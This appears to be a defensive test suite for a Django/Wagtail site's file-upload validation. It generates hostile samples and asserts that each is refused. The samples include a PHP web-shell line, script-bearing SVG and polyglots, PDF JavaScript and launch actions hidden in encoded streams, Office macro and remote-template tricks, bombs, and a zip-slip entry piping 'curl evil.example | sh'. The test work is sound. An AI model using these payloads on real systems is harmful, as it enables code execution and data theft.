"""The upload attack corpus: what strangers send as "attachments".

Each file is built here, in memory (nothing big is committed). Each is refused with a
message for the file field, or stored inertly (random name, private folder) and served
only as a download with a checked content type. The same limits are checked on the
Wagtail admin's image and document uploads.
"""

import io
import re
import struct
import zipfile
import zlib
from pathlib import Path

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from pikepdf import Array, Dictionary, Name, String
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.models import Collection

from challenges import services, uploads
from challenges.models import ChallengePage, EntryAttachment
from home.models import Organisation, User
from tests.challenges.files import (
    EXE,
    PAGE_TEXT,
    PDF,
    PNG,
    ascii85,
    ascii_hex,
    docx_bytes,
    flate_with_early_endstream,
    flate_with_predictor,
    lzw,
    office_bytes,
    pdf_bytes,
    pptx_bytes,
    run_length,
    upload,
    xlsx_bytes,
)
from tests.conftest import load_demo_site, shared_data
from tests.factories.challenges import (
    BusinessFactory,
    ChallengeIndexPageFactory,
    challenge_with_criteria,
    member_of,
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("_world")]


@pytest.fixture(scope="module")
def _world(django_db_setup, django_db_blocker):
    """The site, one open challenge and one start-up, built once for the module (as
    tests/challenges/conftest.py builds them for each test); every test's writes are
    rolled back."""

    def build():
        index = ChallengeIndexPageFactory(parent=load_demo_site())
        index.save_revision().publish()
        challenge = challenge_with_criteria(
            index, title="Damp and mould", slug="damp-and-mould"
        )
        organisation = BusinessFactory(name="Damp Sense Ltd")
        user = member_of(organisation)
        return {
            "challenge": challenge.pk,
            "organisation": organisation.pk,
            "user": user.pk,
        }

    yield from shared_data(django_db_blocker, build)


@pytest.fixture
def challenge(_world, db):
    return ChallengePage.objects.get(pk=_world["challenge"])


@pytest.fixture
def startup(_world, db):
    return (
        Organisation.objects.get(pk=_world["organisation"]),
        User.objects.get(pk=_world["user"]),
    )


LIMIT = EntryAttachment.MAX_BYTES


# --- The corpus ----------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


def decompression_bomb_png(side: int = 60_000) -> bytes:
    """A few hundred bytes that claim 60,000 x 60,000 pixels (3.6 gigapixels): opening
    it for real would need gigabytes of memory."""
    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def image_over_40_megapixels() -> bytes:
    """A real, valid PNG of 8,000 x 5,001 pixels: 40,008,000, just over the limit."""
    buffer = io.BytesIO()
    Image.new("1", (8_000, 5_001), 1).save(buffer, format="PNG", optimize=True)
    return buffer.getvalue()


def jpeg(**save) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (16, 16), "navy").save(buffer, format="JPEG", **save)
    return buffer.getvalue()


def png_with_text(text: str) -> bytes:
    """A valid PNG carrying `text` in a tEXt chunk, well past the first kilobyte."""
    info = PngInfo()
    info.add_text("Padding", "x" * 2000)
    info.add_text("Comment", text)
    buffer = io.BytesIO()
    Image.new("RGB", (2, 2), "white").save(buffer, format="PNG", pnginfo=info)
    return buffer.getvalue()


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" '
    b'height="10"><script>fetch("/account/").then(r=>r.text()).then(alert)</script>'
    b"</svg>"
)
# Valid GIF header and valid JavaScript at once ("GIFAR"-style polyglot).
GIF_JS_POLYGLOT = b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.cookie);//"
HTML_AS_PDF = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
HTML_TAIL = b"<html><body><script>alert(1)</script></body></html>"
PHP = "<?php system($_GET['c']); ?>"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def _zip(members: dict[str, bytes], method=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx_with_pdf_inside() -> bytes:
    """A DOCX whose first part, stored uncompressed, starts a PDF: a DOCX to Word and a
    PDF to a reader that looks for %PDF near the start."""
    return office_bytes(
        parts={"word/media/a.pdf": PDF},
        types={"word/media/a.pdf": "image/png"},
        method=zipfile.ZIP_STORED,
    )


def zip_bomb(kind: str = "docx", unzipped_mb: int = 150) -> bytes:
    """A real Office package of ~150 KB holding 150 MB of zeros."""
    package = io.BytesIO(office_bytes(kind))
    with zipfile.ZipFile(package, "a", zipfile.ZIP_DEFLATED) as archive:
        folder = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}[kind]
        with archive.open(f"{folder}/media/image1.png", "w", force_zip64=True) as part:
            chunk = b"\x00" * (1024 * 1024)
            for _ in range(unzipped_mb):
                part.write(chunk)
    return package.getvalue()


def pdf_of_size(size: int) -> bytes:
    """A valid PDF of exactly `size` bytes (padded with an unfiltered stream)."""

    def build(padding: int) -> bytes:
        return pdf_bytes(
            lambda pdf: setattr(pdf.Root, "Padding", pdf.make_stream(b"x" * padding)),
            compress_streams=False,
        )

    padding = size - len(build(0))
    for _ in range(3):
        content = build(padding)
        padding += size - len(content)
    assert len(content) == size
    return content


# PDF actions and objects, built with pikepdf.


def js(code: str = "app.alert(document.cookie)") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def on_open(action):
    return pdf_bytes(lambda pdf: setattr(pdf.Root, "OpenAction", action))


def _annotation(pdf, **fields) -> None:
    annotation = Dictionary(Type=Name.Annot, Rect=Array([72, 72, 300, 100]), **fields)
    pdf.pages[0].Annots = Array([pdf.make_indirect(annotation)])


def link(action: Dictionary) -> bytes:
    return pdf_bytes(lambda pdf: _annotation(pdf, Subtype=Name.Link, A=action))


def annotation(subtype: str, **fields) -> bytes:
    return pdf_bytes(lambda pdf: _annotation(pdf, Subtype=Name(subtype), **fields))


def _page_aa(pdf) -> None:
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=Dictionary(S=Name.GoTo, D=Array([page, Name.Fit])))


def _names_js(pdf) -> None:
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("run"), pdf.make_indirect(js())]))
    )


def _next_js(pdf) -> None:
    first = pdf.pages[0].obj
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([first, Name.Fit]), Next=js())


def _attach(pdf) -> None:
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, EXE)


def _file_attachment(pdf) -> None:
    spec = pikepdf.AttachedFileSpec(pdf, EXE, filename="invoice.exe")
    _annotation(pdf, Subtype=Name.FileAttachment, FS=spec.obj)


def _xfa(pdf) -> None:
    pdf.Root.AcroForm = Dictionary(
        Fields=Array(),
        XFA=pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"),
    )


def _rich_media(pdf) -> None:
    _annotation(
        pdf,
        Subtype=Name.RichMedia,
        RichMediaContent=Dictionary(Assets=Dictionary(Names=Array())),
    )


def no_pages() -> bytes:
    buffer = io.BytesIO()
    pikepdf.new().save(buffer, static_id=True)
    return buffer.getvalue()


def escaped(content: bytes) -> bytes:
    """The same PDF with /JavaScript spelt with a #xx escape (qpdf reads it back as
    /JavaScript; the file's offsets move, which qpdf repairs)."""
    return content.replace(b"/JavaScript", b"/J#61vaScript")


def encrypted(**encryption) -> bytes:
    return pdf_bytes(encryption=pikepdf.Encryption(**encryption))


# A script hidden inside a stream, encoded with each filter readers decode.
SCRIPT_OBJECT = (
    b"<</Type/Action/S/JavaScript/JS(app.launchURL('https://evil.example'))>>"
)
FILTERS = [
    # (id, encoder, filter names, decode parameters)
    ("ascii-hex", ascii_hex, ["/ASCIIHexDecode"], None),
    ("ascii85", ascii85, ["/ASCII85Decode"], None),
    ("lzw", lzw, ["/LZWDecode"], None),
    ("run-length", run_length, ["/RunLengthDecode"], None),
    (
        "chain-ascii85-flate",
        lambda d: ascii85(zlib.compress(d)),
        ["/ASCII85Decode", "/FlateDecode"],
        None,
    ),
    (
        "chain-hex-run-length",
        lambda d: ascii_hex(run_length(d)),
        ["/ASCIIHexDecode", "/RunLengthDecode"],
        None,
    ),
    (
        "chain-lzw-flate",
        lambda d: lzw(zlib.compress(d)),
        ["/LZWDecode", "/FlateDecode"],
        None,
    ),
    (
        "flate-predictor",
        flate_with_predictor,
        ["/FlateDecode"],
        {"/Predictor": 12, "/Columns": 8},
    ),
]


def pdf_with_stream(raw: bytes, filters: list[str], parms=None) -> bytes:
    """A PDF whose catalogue points at a stream of `raw` (already encoded), saved
    without qpdf re-encoding it."""

    def build(pdf):
        stream = pdf.make_stream(raw)
        stream.Filter = Array([Name(f) for f in filters])
        if parms:
            stream.DecodeParms = Dictionary(parms)
        pdf.Root.Extra = stream

    return pdf_bytes(
        build,
        stream_decode_level=pikepdf.StreamDecodeLevel.none,
        compress_streams=False,
    )


def pdf_with_hidden_object_stream(raw: bytes, filters: list[str], parms=None) -> bytes:
    """A good PDF with an object stream appended after its end: not in the
    cross-reference table, so qpdf does not list it, but a lenient reader that
    rebuilds the table finds the script in it."""
    first = b"99 0 "
    extra = b""
    if parms:
        extra = (
            b"/DecodeParms<<"
            + b"".join(k.encode() + b" %d" % v for k, v in parms.items())
            + b">>"
        )
    hidden = (
        b"98 0 obj<</Type/ObjStm/N 1/First %d/Length %d/Filter[%s]%s>>stream\n"
        % (len(first), len(raw), " ".join(filters).encode(), extra)
        + raw
        + b"\nendstream\nendobj\n%%EOF\n"
    )
    return PDF + hidden


def encoded_script(encoder) -> bytes:
    return encoder(b"99 0 " + SCRIPT_OBJECT)


EARLY_ENDSTREAM = flate_with_early_endstream(
    b"BT ET\nendstream\nendobj\n", b"99 0 " + SCRIPT_OBJECT
)
EARLY_ENDSTREAM_ESCAPED = flate_with_early_endstream(
    b"endstream\n", b"99 0 " + SCRIPT_OBJECT.replace(b"/JavaScript", b"/J#61vaScript")
)

# Office tricks, built as real OOXML packages with zipfile.
VBA = "application/vnd.ms-office.vbaProject"
ACTIVEX = "application/vnd.ms-office.activeX+xml"
OLE_OBJECT = "application/vnd.openxmlformats-officedocument.oleObject"
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
INNER_ZIP = _zip({"payload.js": b"WScript.Shell"})

REFUSED = [
    # (id, name, content, words in the message)
    # Images and other types.
    ("decompression-bomb", "photo.png", decompression_bomb_png, "40 megapixels"),
    ("over-40-megapixels", "plan.png", image_over_40_megapixels, "40 megapixels"),
    ("svg-with-script", "logo.svg", lambda: SVG_WITH_SCRIPT, "must be a PDF"),
    ("svg-named-png", "logo.png", lambda: SVG_WITH_SCRIPT, "must be a PDF"),
    ("gif-js-polyglot", "pixel.png", lambda: GIF_JS_POLYGLOT, "must be a PDF"),
    ("exe-renamed-pdf", "budget.pdf", lambda: EXE, "must be a PDF"),
    ("elf-renamed-pdf", "budget.pdf", lambda: ELF, "must be a PDF"),
    ("html-renamed-pdf", "budget.pdf", lambda: HTML_AS_PDF, "must be a PDF"),
    ("zip-as-docx", "proposal.docx", lambda: _zip({"a.txt": b"x"}), "must be a PDF"),
    ("broken-png", "chart.png", lambda: PNG[:40], "that can be opened"),
    ("png-named-pdf", "plan.pdf", lambda: PNG, "ends in .pdf"),
    ("right-to-left-override", "invoice\u202efdp.exe", lambda: PDF, "ends in .exe"),
    ("one-byte-over-limit", "big.pdf", lambda: b"%PDF" * (LIMIT // 4 + 1), "10 MB"),
    ("empty", "empty.pdf", lambda: b"", "empty"),
    # Polyglots, looked for in the whole file.
    ("pdf-zip-tail", "plan.pdf", lambda: PDF + _zip({"a.exe": EXE}), "another file"),
    ("pdf-html-tail", "plan.pdf", lambda: PDF + HTML_TAIL, "web page"),
    ("pdf-exe-tail", "plan.pdf", lambda: PDF + EXE, "extra data after its end"),
    (
        "pdf-html-in-content-stream",
        "plan.pdf",
        lambda: pdf_with_stream(b"x" * 4000 + b"<script>alert(1)</script>", []),
        "web page",
    ),
    (
        "png-script-past-1kb",
        "chart.png",
        lambda: png_with_text("<script>x</script>"),
        "web page",
    ),
    ("png-php", "chart.png", lambda: png_with_text(PHP), "web page"),
    ("png-html-tail", "chart.png", lambda: PNG + b" " * 2000 + HTML_TAIL, "web page"),
    ("png-zip-tail", "chart.png", lambda: PNG + INNER_ZIP, "another file"),
    (
        "jpeg-php-comment",
        "photo.jpg",
        lambda: jpeg(comment=b"x" * 2000 + PHP.encode()),
        "web page",
    ),
    ("jpeg-zip-tail", "photo.jpg", lambda: jpeg() + INNER_ZIP, "another file"),
    ("jpeg-html-tail", "photo.jpg", lambda: jpeg() + HTML_TAIL, "web page"),
    ("docx-pdf-polyglot", "cv.docx", docx_with_pdf_inside, "another file"),
    (
        "docx-stored-html",
        "cv.docx",
        lambda: office_bytes(
            parts={"word/x.xml": HTML_TAIL}, method=zipfile.ZIP_STORED
        ),
        "web page",
    ),
    # Not PDFs, whatever they start with.
    (
        "pdf-header-garbage",
        "plan.pdf",
        lambda: b"%PDF-1.7\n" + EXE + b"\n%%EOF\n",
        "not a PDF",
    ),
    (
        "pdf-truncated",
        "plan.pdf",
        lambda: PDF[: len(PDF) // 3] + b"\n%%EOF\n",
        "not a PDF",
    ),
    ("pdf-no-pages", "plan.pdf", no_pages, "has no pages"),
    # Encrypted PDFs, even those that open without a password.
    (
        "pdf-encrypted-aes256-no-password",
        "plan.pdf",
        lambda: encrypted(owner="o", user=""),
        "encrypted",
    ),
    (
        "pdf-encrypted-rc4-no-password",
        "plan.pdf",
        lambda: encrypted(owner="o", user="", R=4, aes=False, metadata=False),
        "encrypted",
    ),
    (
        "pdf-encrypted-aes128-no-password",
        "plan.pdf",
        lambda: encrypted(owner="o", user="", R=4, aes=True),
        "encrypted",
    ),
    (
        "pdf-encrypted-with-password",
        "plan.pdf",
        lambda: encrypted(owner="o", user="secret"),
        "encrypted",
    ),
    # Scripts and actions, each kind.
    ("pdf-open-action-js", "plan.pdf", lambda: on_open(js()), "JavaScript"),
    (
        "pdf-open-action-escaped-js",
        "plan.pdf",
        lambda: escaped(on_open(js())),
        "JavaScript",
    ),
    ("pdf-names-tree-js", "plan.pdf", lambda: pdf_bytes(_names_js), "JavaScript"),
    ("pdf-next-action-js", "plan.pdf", lambda: pdf_bytes(_next_js), "JavaScript"),
    ("pdf-link-js", "plan.pdf", lambda: link(js()), "JavaScript"),
    (
        "pdf-js-in-object-stream",
        "plan.pdf",
        lambda: pdf_bytes(
            lambda pdf: setattr(pdf.Root, "OpenAction", pdf.make_indirect(js())),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        ),
        "JavaScript",
    ),
    ("pdf-page-aa", "plan.pdf", lambda: pdf_bytes(_page_aa), "run by themselves"),
    (
        "pdf-launch",
        "plan.pdf",
        lambda: link(Dictionary(S=Name.Launch, F=String("cmd.exe"))),
        "starts a program",
    ),
    (
        "pdf-launch-on-open",
        "plan.pdf",
        lambda: on_open(Dictionary(S=Name.Launch, F=String("cmd.exe"))),
        "program",
    ),
    (
        "pdf-submit-form",
        "plan.pdf",
        lambda: link(Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))),
        "sends what is typed",
    ),
    (
        "pdf-import-data",
        "plan.pdf",
        lambda: on_open(Dictionary(S=Name.ImportData, F=String("data.fdf"))),
        "imports data",
    ),
    (
        "pdf-reset-form",
        "plan.pdf",
        lambda: link(Dictionary(S=Name.ResetForm)),
        "changes a form",
    ),
    (
        "pdf-uri-javascript",
        "plan.pdf",
        lambda: link(Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))),
        "web or email address",
    ),
    (
        "pdf-uri-file",
        "plan.pdf",
        lambda: link(
            Dictionary(S=Name.URI, URI=String("file:///C:/Windows/System32/calc.exe"))
        ),
        "web or email address",
    ),
    (
        "pdf-uri-smb",
        "plan.pdf",
        lambda: link(Dictionary(S=Name.URI, URI=String("\\\\evil.example\\share\\x"))),
        "web or email address",
    ),
    (
        "pdf-uri-on-open",
        "plan.pdf",
        lambda: on_open(Dictionary(S=Name.URI, URI=String("https://evil.example/"))),
        "runs when it is opened",
    ),
    (
        "pdf-gotor",
        "plan.pdf",
        lambda: link(
            Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit]))
        ),
        "opens another file",
    ),
    (
        "pdf-gotoe",
        "plan.pdf",
        lambda: link(Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("a")))),
        "opens an embedded file",
    ),
    # Embedded files, rich media, XFA.
    (
        "pdf-embedded-file",
        "plan.pdf",
        lambda: pdf_bytes(_attach),
        "attached or embedded files",
    ),
    (
        "pdf-file-attachment-annotation",
        "plan.pdf",
        lambda: pdf_bytes(_file_attachment),
        "attached or embedded files",
    ),
    ("pdf-rich-media", "plan.pdf", lambda: pdf_bytes(_rich_media), "rich media"),
    ("pdf-3d", "plan.pdf", lambda: annotation("/3D"), "rich media"),
    ("pdf-sound", "plan.pdf", lambda: annotation("/Sound"), "rich media"),
    ("pdf-xfa", "plan.pdf", lambda: pdf_bytes(_xfa), "XFA"),
    # Streams decoded whatever their filters, and an early `endstream`.
    *[
        (
            f"pdf-script-in-{i}-stream",
            "plan.pdf",
            lambda e=e, f=f, p=p: pdf_with_stream(encoded_script(e), f, p),
            "JavaScript",
        )
        for i, e, f, p in FILTERS
    ],
    *[
        (
            f"pdf-hidden-{i}-object-stream",
            "plan.pdf",
            lambda e=e, f=f, p=p: pdf_with_hidden_object_stream(
                encoded_script(e), f, p
            ),
            "JavaScript",
        )
        for i, e, f, p in FILTERS
    ],
    (
        "pdf-early-endstream",
        "plan.pdf",
        lambda: pdf_with_stream(EARLY_ENDSTREAM, ["/FlateDecode"]),
        "JavaScript",
    ),
    (
        "pdf-early-endstream-hidden",
        "plan.pdf",
        lambda: pdf_with_hidden_object_stream(EARLY_ENDSTREAM, ["/FlateDecode"]),
        "JavaScript",
    ),
    (
        "pdf-early-endstream-escaped",
        "plan.pdf",
        lambda: pdf_with_stream(EARLY_ENDSTREAM_ESCAPED, ["/FlateDecode"]),
        "JavaScript",
    ),
    # Office: macros, judged by content types and relationships, not part names.
    (
        "docx-vba-project",
        "proposal.docx",
        lambda: office_bytes(
            parts={"word/vbaProject.bin": OLE},
            types={"word/vbaProject.bin": VBA},
            rels=[("vbaProject", "vbaProject.bin", False)],
        ),
        "macros",
    ),
    (
        "docx-renamed-macro-part",
        "proposal.docx",
        lambda: office_bytes(
            parts={"word/media/logo.png": OLE}, types={"word/media/logo.png": VBA}
        ),
        "macros",
    ),
    (
        "docx-macro-relationship-only",
        "proposal.docx",
        lambda: office_bytes(
            parts={"word/settings2.xml": b"<x/>"},
            rels=[("vbaProject", "settings2.xml", False)],
        ),
        "macros",
    ),
    (
        "docm-renamed-docx",
        "proposal.docx",
        lambda: office_bytes(
            main_type="application/vnd.ms-word.document.macroEnabled.main+xml"
        ),
        "macros",
    ),
    (
        "xlsm-renamed-xlsx",
        "budget.xlsx",
        lambda: office_bytes(
            "xlsx", main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"
        ),
        "macros",
    ),
    (
        "xlsx-macro-sheet",
        "budget.xlsx",
        lambda: office_bytes(
            "xlsx",
            parts={"xl/macrosheets/sheet2.xml": b"<x/>"},
            types={
                "xl/macrosheets/sheet2.xml": "application/vnd.ms-excel.macrosheet+xml"
            },
        ),
        "macros",
    ),
    # ActiveX.
    (
        "docx-activex-part",
        "proposal.docx",
        lambda: office_bytes(
            parts={"word/activeX/activeX1.xml": b"<ax/>"},
            types={"word/activeX/activeX1.xml": ACTIVEX},
        ),
        "ActiveX",
    ),
    (
        "docx-activex-relationship",
        "proposal.docx",
        lambda: office_bytes(
            parts={"word/controls/c1.xml": b"<c/>"},
            rels=[("control", "controls/c1.xml", False)],
        ),
        "ActiveX",
    ),
    (
        "pptx-activex-binary",
        "deck.pptx",
        lambda: office_bytes(
            "pptx",
            parts={"ppt/a/ax1.xml": b"<a/>"},
            rels=[("activeXControlBinary", "a/ax1.xml", False)],
        ),
        "ActiveX",
    ),
    # OLE objects and embedded files.
    (
        "docx-ole-object",
        "proposal.docx",
        lambda: office_bytes(
            parts={"word/embeddings/oleObject1.bin": OLE},
            types={"word/embeddings/oleObject1.bin": OLE_OBJECT},
            rels=[("oleObject", "embeddings/oleObject1.bin", False)],
        ),
        "embedded in it",
    ),
    (
        "docx-ole-bytes-as-png",
        "proposal.docx",
        lambda: office_bytes(parts={"word/media/image2.png": OLE}),
        "embedded in it",
    ),
    (
        "xlsx-ole-relationship",
        "budget.xlsx",
        lambda: office_bytes(
            "xlsx",
            parts={"xl/e/o.xml": b"<o/>"},
            rels=[("oleObject", "e/o.xml", False)],
        ),
        "embedded in it",
    ),
    # altChunk.
    (
        "docx-altchunk-html",
        "proposal.docx",
        lambda: office_bytes(
            parts={"word/chunk.xml": b"<p>hi</p>"},
            rels=[("aFChunk", "chunk.xml", False)],
        ),
        "altChunk",
    ),
    (
        "docx-altchunk-mht",
        "proposal.docx",
        lambda: office_bytes(
            parts={"word/chunk.mht": b"MIME-Version: 1.0"},
            types={"word/chunk.mht": "message/rfc822"},
            rels=[("aFChunk", "chunk.mht", False)],
        ),
        "altChunk",
    ),
    (
        "docx-altchunk-rtf",
        "proposal.docx",
        lambda: office_bytes(
            parts={"word/chunk.rtf": b"{\\rtf1 hi}"},
            types={"word/chunk.rtf": "application/rtf"},
            rels=[("aFChunk", "chunk.rtf", False)],
        ),
        "altChunk",
    ),
    # External targets.
    (
        "docx-remote-template",
        "proposal.docx",
        lambda: office_bytes(
            rels=[("attachedTemplate", "https://evil.example/t.dotm", True)]
        ),
        "outside the file",
    ),
    (
        "docx-remote-picture",
        "proposal.docx",
        lambda: office_bytes(rels=[("image", "https://evil.example/pixel.png", True)]),
        "outside the file",
    ),
    (
        "docx-hyperlink-unc",
        "proposal.docx",
        lambda: office_bytes(rels=[("hyperlink", "file://evil.example/share/x", True)]),
        "outside the file",
    ),
    (
        "docx-hyperlink-javascript",
        "proposal.docx",
        lambda: office_bytes(rels=[("hyperlink", "javascript:alert(1)", True)]),
        "outside the file",
    ),
    (
        "xlsx-external-workbook",
        "budget.xlsx",
        lambda: office_bytes(
            "xlsx", rels=[("externalLinkPath", "https://evil.example/x.xlsx", True)]
        ),
        "outside the file",
    ),
    (
        "pptx-external-ole",
        "deck.pptx",
        lambda: office_bytes("pptx", rels=[("frame", "https://evil.example/", True)]),
        "outside the file",
    ),
    # Nested archives.
    (
        "docx-zip-as-png",
        "proposal.docx",
        lambda: office_bytes(parts={"word/media/image1.png": INNER_ZIP}),
        "embedded in it",
    ),
    (
        "docx-embedded-docx",
        "proposal.docx",
        lambda: office_bytes(
            parts={"word/embeddings/d.docx": office_bytes()},
            types={"word/embeddings/d.docx": DOCX_TYPE},
        ),
        "embedded in it",
    ),
    (
        "xlsx-stored-jar",
        "budget.xlsx",
        lambda: office_bytes(
            "xlsx", parts={"xl/media/image1.png": INNER_ZIP}, method=zipfile.ZIP_STORED
        ),
        "embedded in it",
    ),
    # Zip bombs, encryption, unsafe names.
    ("zip-bomb-docx", "proposal.docx", zip_bomb, "zip bomb"),
    ("zip-bomb-ratio", "proposal.docx", lambda: zip_bomb("docx", 20), "zip bomb"),
    ("zip-bomb-xlsx", "budget.xlsx", lambda: zip_bomb("xlsx"), "zip bomb"),
    (
        "docx-encrypted-member",
        "proposal.docx",
        lambda: office_bytes(flag_bits=0x1),
        "password-protected",
    ),
    (
        "docx-zip-slip",
        "proposal.docx",
        lambda: office_bytes(
            parts={"../../../../home/lab/.bashrc": b"curl evil.example | sh"}
        ),
        "not an Office document",
    ),
    (
        "docx-part-without-type",
        "proposal.docx",
        lambda: office_bytes(parts={"word/payload.js": b"WScript"}),
        "not an Office document",
    ),
]

ACCEPTED = [
    # (id, name, content, content type)
    ("pdf-text-and-image", "plan.pdf", lambda: PDF, "application/pdf"),
    (
        "pdf-web-and-email-links-and-go-to-on-open",
        "plan.pdf",
        lambda: pdf_bytes(
            lambda pdf: (
                _annotation(
                    pdf,
                    Subtype=Name.Link,
                    A=Dictionary(S=Name.URI, URI=String("https://impactlab.example/")),
                ),
                setattr(pdf.Root, "OpenAction", Array([pdf.pages[0].obj, Name.Fit])),
            )
        ),
        "application/pdf",
    ),
    (
        "pdf-object-streams",
        "plan.pdf",
        lambda: pdf_bytes(object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "application/pdf",
    ),
    (
        "pdf-ascii85-flate-content",
        "plan.pdf",
        lambda: pdf_with_stream(
            ascii85(zlib.compress(PAGE_TEXT)), ["/ASCII85Decode", "/FlateDecode"]
        ),
        "application/pdf",
    ),
    (
        "pdf-exactly-the-limit",
        "full.pdf",
        lambda: pdf_of_size(LIMIT),
        "application/pdf",
    ),
    (
        "docx-with-web-link",
        "proposal.docx",
        docx_bytes,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    (
        "xlsx",
        "budget.xlsx",
        xlsx_bytes,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    (
        "pptx",
        "deck.pptx",
        pptx_bytes,
        "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    ),
    ("png", "chart.png", lambda: PNG, "image/png"),
    (
        "png-with-plain-text",
        "chart.png",
        lambda: png_with_text("Made in Sandwell"),
        "image/png",
    ),
    ("jpeg", "photo.jpeg", jpeg, "image/jpeg"),
]


# --- Refused, with a message for the field --------------------------------------------


class UploadAttackTests:
    @pytest.mark.parametrize(
        ("name", "build", "message"),
        [pytest.param(n, b, m, id=i) for i, n, b, m in REFUSED],
    )
    def test_refused_with_a_message_for_the_file_field(
        self, challenge, startup, settings, name, build, message
    ):
        _, user = startup
        entry = services.entry_start(challenge=challenge, user=user)
        with pytest.raises(ValidationError) as caught:
            services.entry_attachment_add(
                entry=entry, by=user, upload=upload(name, build())
            )
        errors = caught.value.message_dict
        assert list(errors) == ["file"]
        assert message in errors["file"][0]
        assert not EntryAttachment.objects.exists()
        stored = Path(settings.PRIVATE_MEDIA_ROOT)
        assert not stored.exists() or not any(p.is_file() for p in stored.rglob("*"))

    def test_the_corpus_has_three_variants_of_every_class(self):
        prefixes = [i.split("-")[0] for i, *_ in REFUSED]
        for kind in ("pdf", "docx", "png", "jpeg", "xlsx"):
            assert prefixes.count(kind) >= 3, kind
        ids = {i for i, *_ in REFUSED}
        assert len(ids) == len(REFUSED)  # no two cases share a name

    @pytest.mark.parametrize(
        ("name", "build", "message"),
        [
            ("photo.png", decompression_bomb_png, "40 megapixels"),
            ("budget.pdf", lambda: EXE, "must be a PDF"),
            ("proposal.docx", zip_bomb, "zip bomb"),
            (
                "plan.pdf",
                lambda: pdf_with_hidden_object_stream(
                    encoded_script(lzw), ["/LZWDecode"]
                ),
                "JavaScript",
            ),
            (
                "proposal.docx",
                lambda: office_bytes(
                    rels=[("attachedTemplate", "https://evil.example/t.dotm", True)]
                ),
                "outside the file",
            ),
            ("plan.pdf", lambda: encrypted(owner="o", user=""), "encrypted"),
        ],
    )
    def test_the_page_shows_the_message_beside_the_field(
        self, client, challenge, startup, name, build, message
    ):
        _, user = startup
        client.force_login(user)
        entry = services.entry_start(challenge=challenge, user=user)
        url = reverse("entry_attachments", args=[entry.pk])
        response = client.post(url, {"file": upload(name, build())})
        assert response.status_code == 200
        content = response.content.decode()
        assert 'id="id_file-error"' in content
        assert "govuk-error-summary" in content
        assert message in content
        assert not EntryAttachment.objects.exists()


class AcceptedControlTests:
    @pytest.mark.parametrize(
        ("name", "build", "content_type"),
        [pytest.param(n, b, t, id=i) for i, n, b, t in ACCEPTED],
    )
    def test_benign_files_are_accepted(
        self, challenge, startup, name, build, content_type
    ):
        _, user = startup
        entry = services.entry_start(challenge=challenge, user=user)
        content = build()
        attachment = services.entry_attachment_add(
            entry=entry, by=user, upload=upload(name, content)
        )
        assert attachment.content_type == content_type
        assert attachment.size == len(content)


class PdfBudgetTests:
    """Decoding is bounded: in total by our budget, per stream by qpdf's limits."""

    def _refused(self, challenge, startup, content) -> str:
        _, user = startup
        entry = services.entry_start(challenge=challenge, user=user)
        with pytest.raises(ValidationError) as caught:
            services.entry_attachment_add(
                entry=entry, by=user, upload=upload("plan.pdf", content)
            )
        return caught.value.messages[0]

    def test_streams_decoding_past_the_budget_are_refused(
        self, challenge, startup, monkeypatch
    ):
        """A Flate bomb: 10 MB of zeros compress to about 10 KB."""
        monkeypatch.setattr(uploads, "MAX_PDF_DECODED_BYTES", 5 * 1024 * 1024)
        content = pdf_with_stream(
            zlib.compress(bytes(10 * 1024 * 1024)), ["/FlateDecode"]
        )
        assert "too large to check" in self._refused(challenge, startup, content)

    def test_one_stream_past_qpdfs_limit_is_refused(self, challenge, startup):
        previous = pikepdf.settings.set_qpdf_limits(flate_max_memory=1024 * 1024)
        try:
            content = pdf_with_stream(
                zlib.compress(bytes(4 * 1024 * 1024)), ["/FlateDecode"]
            )
            message = self._refused(challenge, startup, content)
        finally:
            pikepdf.settings.set_qpdf_limits(**previous)
        assert "too large to check" in message

    def test_a_large_lzw_stream_is_refused(self, challenge, startup, monkeypatch):
        """qpdf has no memory limit for LZW, so a large LZW stream is not decoded."""
        monkeypatch.setattr(uploads, "MAX_PDF_LZW_BYTES", 16)
